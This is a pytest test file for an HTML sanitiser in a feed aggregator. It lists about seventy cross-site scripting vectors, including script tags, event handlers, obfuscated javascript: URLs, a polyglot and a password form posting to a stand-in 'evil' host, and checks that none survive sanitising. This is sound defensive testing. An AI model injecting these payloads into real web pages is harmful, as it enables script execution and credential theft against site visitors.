"""The allow-list sanitiser against SECURITY.md's H rows (static checks on its output)."""

from __future__ import annotations

import re

import pytest

from aggregator.sanitize import sanitize

BASE = "https://blog.example.org/2011/03/article"
VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<x onclick=alert(1)>x</x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1)>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<frameset onload=alert(1)>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    '<form action="https://evil"><input type=password name=pw><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil/x.css">',
    "<style>@import url(https://evil/x.css)</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="x:expression(alert(1))">x</p>',
    '<div style="position:fixed;inset:0;z-index:9999">overlay</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<img src="x"onerror="alert(1)">',
    "<img src=`x` onerror=`alert(1)`>",
    '<a title="x" href=javascript:alert(1)>x</a>',
    '<img srcset="javascript:alert(1) 1x">',
    "<video poster=javascript:alert(1)></video>",
    "<img lowsrc=javascript:alert(1)>",
    '<td background="javascript:alert(1)">',
    "<img referrerpolicy=unsafe-url src=https://tracker/p>",
    '<a ping="https://tracker/p" href="https://example.org/">x</a>',
    "<img name=getElementById src=x>",
    "<form id=x></form>",
    '<p id="__proto__" name="cookie">x</p>',
    "<scr\0ipt>alert(1)</script>",
    "<img\0src=x onerror=alert(1)>",
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
]
ALLOWED_URL = re.compile(r"^(https?://|mailto:)", re.I)


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_executable_survives(vector: str) -> None:
    out = sanitize(f"<div><p>avant</p>{vector}<p>après</p></div>", BASE)
    lowered = " ".join(re.findall(r"<[^>]*>", out.lower()))  # the tags only; text is inert
    assert not re.search(
        r"<\s*(script|svg|math|iframe|frame|object|embed|form|input|button|base|"
        r"meta|link|style|template|textarea)\b",
        lowered,
    ), out
    assert not re.search(r"\son[a-z]+\s*=", lowered), out
    assert "style=" not in lowered and "srcset" not in lowered and "ping=" not in lowered
    assert " id=" not in lowered and " name=" not in lowered  # H23: no DOM clobbering
    for url in re.findall(r'(?:href|src|cite|poster|background)="([^"]*)"', out):
        assert ALLOWED_URL.match(url), (vector, out)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        (
            '<a href="/admin/delete/1">x</a>',
            'href="https://blog.example.org/admin/delete/1"',
        ),  # H20
        ('<img src="/logout">', 'src="https://blog.example.org/logout"'),
        ('<img src="?delete=1">', 'src="https://blog.example.org/2011/03/article?delete=1"'),
        (
            '<a href="https://x.example/" target="_blank">x</a>',
            'rel="noopener noreferrer nofollow ugc"',
        ),
    ],
)
def test_relative_urls_point_at_the_article_and_links_are_safe(html: str, expected: str) -> None:
    out = sanitize(html, BASE)
    assert expected in out
    assert "target=" not in out


def test_text_and_structure_are_kept() -> None:
    html = "<h2>Titre</h2><p>Un <em>vrai</em> <a href='https://ex.org/'>lien</a>.</p><ul><li>un</li></ul>"
    out = sanitize(html, BASE)
    for part in ("<h2>Titre</h2>", "<em>vrai</em>", "<li>un</li>", 'href="https://ex.org/"'):
        assert part in out
